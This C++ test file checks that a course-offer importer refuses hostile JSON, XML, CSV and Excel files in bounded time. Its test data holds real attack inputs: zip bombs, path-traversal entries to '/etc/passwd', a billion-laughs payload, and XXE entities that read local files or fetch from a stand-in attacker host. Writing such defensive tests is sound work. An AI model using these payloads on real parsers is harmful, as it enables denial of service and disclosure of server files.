// SPDX-License-Identifier: EUPL-1.2
// Files made to hurt: they are refused with a remedy, in bounded time and memory.
#include "base/text.hpp"
#include "exchange/offer_reading.hpp"
#include "tests/support/cpu_time.hpp"
#include "tests/support/zip_writer.hpp"

#include <doctest/doctest.h>

#include <chrono>

using namespace kc;
using namespace kc::exchange;
using tests::ZipWriter;

namespace {

constexpr std::size_t megabyte = 1024 * 1024;

std::string repeated(std::string_view part, std::size_t times) {
    std::string text;
    text.reserve(part.size() * times);
    for (std::size_t i = 0; i < times; ++i) text += part;
    return text;
}

ReadResult read(std::string_view bytes, std::optional<SourceFormat> format = {}) { return read_offers(bytes, Vocabulary{}, {.format = format}); }

// The message with which a file is refused; far slower than any machine needs is a failure as well.
std::string refusal(std::string_view bytes, std::optional<SourceFormat> format = {}) {
    const auto begin = test::thread_cpu_time();
    const auto result = read(bytes, format);
    CHECK(test::thread_cpu_time() - begin < std::chrono::seconds(20));
    CHECK(result.offers.empty());
    REQUIRE_FALSE(result.problems.empty());
    CHECK(is_valid_utf8(result.problems[0].message));
    return result.problems[0].message;
}

bool has(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }

constexpr std::string_view book = R"(<workbook xmlns:r="r"><sheets><sheet name="Angebote" r:id="rId1"/></sheets></workbook>)";
constexpr std::string_view relations = R"(<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>)";

ZipWriter workbook() {
    ZipWriter zip;
    zip.add("xl/workbook.xml", book);
    zip.add("xl/_rels/workbook.xml.rels", relations);
    return zip;
}

std::string workbook_with(std::string_view sheet, std::string_view texts = {}) {
    auto zip = workbook();
    zip.add("xl/worksheets/sheet1.xml", sheet, {.deflate = true});
    if (!texts.empty()) zip.add("xl/sharedStrings.xml", texts, {.deflate = true});
    return zip.finish();
}

std::string json_with(std::string_view attributes) {
    return R"({"data":[{"id":"a","attributes":{"name":"Titel","access":["free"])" + std::string(attributes) + "}}]}";
}

}  // namespace

TEST_CASE("a workbook that unpacks to a thousand times its size is refused") {
    const auto packed = workbook_with("<worksheet><sheetData>" + std::string(60 * megabyte, ' '));
    CHECK(packed.size() < megabyte);
    CHECK(has(refusal(packed), "Vielfaches"));
}

TEST_CASE("a workbook whose directory lies about sizes is refused by what really comes out") {
    auto zip = workbook();
    const std::string sheet = "<worksheet>" + std::string(60 * megabyte, ' ');
    zip.add("xl/worksheets/sheet1.xml", sheet, {.deflate = true, .stated_size = 100});
    CHECK_FALSE(refusal(zip.finish()).empty());
}

TEST_CASE("a workbook with thousands of parts is refused before any is read") {
    auto zip = workbook();
    for (int i = 0; i < 3000; ++i) zip.add("xl/worksheets/sheet" + std::to_string(i + 2) + ".xml", "<x/>");
    CHECK(has(refusal(zip.finish()), "viele Teile"));
}

TEST_CASE("a workbook in which a million cells share one long text is refused") {
    std::string sheet = "<worksheet><sheetData>";
    for (int row = 0; row < 500; ++row) sheet += "<row>" + repeated("<c t=\"s\"><v>0</v></c>", 100) + "</row>";
    CHECK(has(refusal(workbook_with(sheet + "</sheetData></worksheet>", "<sst><si><t>" + repeated("Text ", 2000) + "</t></si></sst>")),
              "zu viel Text"));
}

TEST_CASE("a workbook inside a workbook is not looked into") {
    auto zip = workbook();
    zip.add("xl/worksheets/sheet1.xml", workbook_with("<worksheet/>"));
    CHECK(has(refusal(zip.finish()), "nicht lesbar"));
}

TEST_CASE("archives cut off, without an end or with foreign parts are refused") {
    const auto whole = workbook_with("<worksheet><sheetData/></worksheet>");
    for (const std::size_t size : {std::size_t{4}, std::size_t{30}, whole.size() / 2, whole.size() - 1})
        CHECK_FALSE(refusal(whole.substr(0, size)).empty());
    ZipWriter other;
    other.add("../../etc/passwd", "x");
    CHECK(has(refusal(other.finish()), "keine Excel-Datei"));
    auto outside = ZipWriter();
    outside.add("xl/workbook.xml", book);
    outside.add("xl/_rels/workbook.xml.rels", R"(<Relationships><Relationship Id="rId1" Target="../../../etc/passwd"/></Relationships>)");
    CHECK(has(refusal(outside.finish()), "fehlt"));
}

TEST_CASE("entities of one's own, from inside or outside, are refused in every XML") {
    const std::string laughs =
        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><l>&c;</l>";
    const std::string outside =
        "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><veranstaltung><name>&x;</name></veranstaltung>";
    const std::string parameter = "<!DOCTYPE l [<!ENTITY % p SYSTEM \"http://angreifer.example/x\"> %p;]><veranstaltung/>";
    for (const auto& hostile : {laughs, outside, parameter}) {
        CHECK(has(refusal(hostile), "DOCTYPE"));
        CHECK(has(refusal(workbook_with(hostile)), "DOCTYPE"));
    }
    CHECK_FALSE(refusal("<veranstaltung><name>&unbekannt;</name></veranstaltung>").empty());
}

TEST_CASE("one endless name, attribute or comment is refused instead of being read over and over") {
    CHECK(has(refusal("<veranstaltung a=\"" + std::string(90 * megabyte, 'x'), SourceFormat::open_vhs), "2 MB"));
    CHECK(has(refusal("<!--" + std::string(90 * megabyte, 'x'), SourceFormat::open_vhs), "2 MB"));
    CHECK(has(refusal("<" + std::string(90 * megabyte, 'x'), SourceFormat::open_vhs), "2 MB"));
    CHECK_FALSE(refusal("<veranstaltung><name><![CDATA[" + std::string(90 * megabyte, 'x'), SourceFormat::open_vhs).empty());
}

TEST_CASE("an offer as large as a file is refused, in XML with many attributes, children or much text") {
    for (const std::string_view inside : {"<a>x</a>", "<a/>", "text ", "<a b=\"c\"/>"}) {
        CHECK(has(refusal("<x><veranstaltung>" + repeated(inside, 3 * megabyte) + "</veranstaltung></x>"), "1 MB"));
    }
}

TEST_CASE("deeply nested JSON and XML are refused") {
    CHECK(has(refusal(repeated("[", 4 * megabyte)), "verschachtelt"));
    CHECK(has(refusal(repeated("{\"a\":", 2 * megabyte)), "verschachtelt"));
    CHECK(has(refusal(repeated("<a>", 3 * megabyte)), "verschachtelt"));
}

TEST_CASE("JSON of millions of empty values is refused before it takes gigabytes") {
    for (const std::string_view value : {"[],", "{},", "0,", "[[[[[[]]]]]],"}) {
        CHECK(has(refusal("{\"data\":[" + repeated(value, 6'000'000) + "0]}"), "zu viele"));
    }
}

TEST_CASE("more than 100 MB are refused before anything is read") {
    const std::string large = "{\"data\":[" + std::string(file_bytes_max, '0');
    for (const auto format : {SourceFormat::moochub, SourceFormat::open_vhs, SourceFormat::csv, SourceFormat::xlsx}) {
        CHECK(has(refusal(large, format), "größer als 100 MB"));
    }
}

TEST_CASE("megabytes of nothing in particular are refused in every format") {
    constexpr std::size_t size = 24 * megabyte;
    const std::string zeros(size, '\0'), spaces = "x" + std::string(size, ' ');
    for (const auto format : {SourceFormat::moochub, SourceFormat::open_vhs, SourceFormat::csv, SourceFormat::xlsx}) {
        CHECK_FALSE(refusal(zeros, format).empty());
        CHECK_FALSE(refusal(spaces, format).empty());
    }
    CHECK(has(refusal(zeros), "nicht erkennbar"));
}

TEST_CASE("too many offers are refused") {
    CHECK(has(refusal("{\"data\":[" + repeated("{},", offers_max) + "{}]}"), "20.000"));
    CHECK(has(refusal("<x>" + repeated("<veranstaltung/>", offers_max + 1) + "</x>"), "20000"));
    CHECK(has(refusal("Kennung;Titel;Form;Preis Mitglieder\n" + repeated("a;b;online;1\n", 3 * offers_max + 1)), "60.000"));
    CHECK(has(refusal("Kennung;Titel" + repeated(";", 6'000'000) + "\n", SourceFormat::csv), "zu viele"));
}

TEST_CASE("an offer with a hundred thousand unknown fields is reported in bounds") {
    std::string fields;
    for (int i = 0; i < 100'000; ++i) fields += ",\"feld" + std::to_string(i) + "\":1";
    const auto result = read(json_with(fields));
    REQUIRE(result.offers.size() == 1);
    CHECK(result.offers[0].fields.size() == fields_max);
    CHECK(has(result.offers[0].fields.back().reason, "nicht aufgeführt"));
}

TEST_CASE("a cell with thousands of entries is one problem") {
    const auto result = read("Kennung;Titel;Form;Preis Mitglieder;Vermittelt;Nachweise\na;b;online;1;\"" + repeated("x: 1;", 5000) + "\";" +
                             repeated("y,", 5000) + "\n");
    REQUIRE(result.offers.size() == 1);
    REQUIRE(result.offers[0].problems.size() == 2);
    CHECK(has(result.offers[0].problems[0].message, "mehr als 200"));
}

TEST_CASE("a header of megabytes is read once") {
    const auto wide = read("Kennung;Titel;Form;Preis Mitglieder" + repeated(";Farbe", 100'000) + "\na;b;online;1\n", SourceFormat::csv);
    CHECK(wide.offers.size() == 1);
    CHECK(wide.file_fields.size() == file_fields_max);
    CHECK(has(refusal("Kennung;Titel" + repeated(";Wort Wort Wort", 200'000) + "\na;b\n", SourceFormat::csv), "Preis Mitglieder"));
}

TEST_CASE("names and addresses of venues are kept short") {
    const auto result = read(json_with(R"(,"courseMode":["onsite"],"contentLocation":{"name":")" + repeated("Saal ", 50'000) +
                                       R"(","address":{"city":")" + repeated("x", 5000) + "\"}}"));
    REQUIRE(result.offers.size() == 1);
    REQUIRE(result.offers[0].venues.size() == 1);
    CHECK(code_points(result.offers[0].venues[0].name) <= 120);
    CHECK(code_points(result.offers[0].venues[0].town) <= 120);
}

TEST_CASE("broken encodings are refused or read without a broken letter") {
    using namespace std::string_view_literals;
    CHECK(has(refusal("\xff\xfe<\0a\0/\0>\0"sv), "UTF-16"));
    CHECK(has(refusal("\xfe\xff\0{\0}"sv), "UTF-16"));
    CHECK_FALSE(refusal("<\0a\0/\0>\0"sv).empty());
    CHECK_FALSE(refusal("\0\0\xfe\xff\0\0\0{"sv).empty());
    CHECK(has(refusal("{\"data\":[{\"id\":\"\xfc\"}]}"), "UTF-8"));
    CHECK(has(refusal("<veranstaltung><name>\xfc</name></veranstaltung>"), "UTF-8"));
    CHECK(has(refusal("<?xml version=\"1.0\" encoding=\"utf-7\"?><veranstaltung/>"), "kodierung"));
    CHECK(has(refusal("Kennung;Titel\0;Form\nA;Gr\xfc\xdf"
                      "e;online\n"sv,
                      SourceFormat::csv),
              "keine Textdatei"));
    const auto invisible = read("<veranstaltung><guid>a\u0081b&#x7f;</guid><name>N\u0085</name></veranstaltung>");
    REQUIRE(invisible.offers.size() == 1);
    CHECK(invisible.offers[0].content.source->id == "ab");
    CHECK(invisible.offers[0].content.title == "N");
    const auto latin = read(
        "Kennung;Titel;Form;Preis Mitglieder\nA;Gr\xfc\xdf"
        "e \x81\x9d;online;1\n");
    REQUIRE(latin.offers.size() == 1);
    CHECK(has(latin.offers[0].content.title, "Grüße"));
    CHECK(is_valid_utf8(latin.offers[0].content.title));
    const auto late = read("Kennung;Titel;Form;Preis Mitglieder\n" + repeated("A;B;online;1\n", 500) + std::string("C;D\0E;online;1\n", 15));
    REQUIRE_FALSE(late.offers.empty());
    CHECK(late.offers.back().content.title == "DE");
}
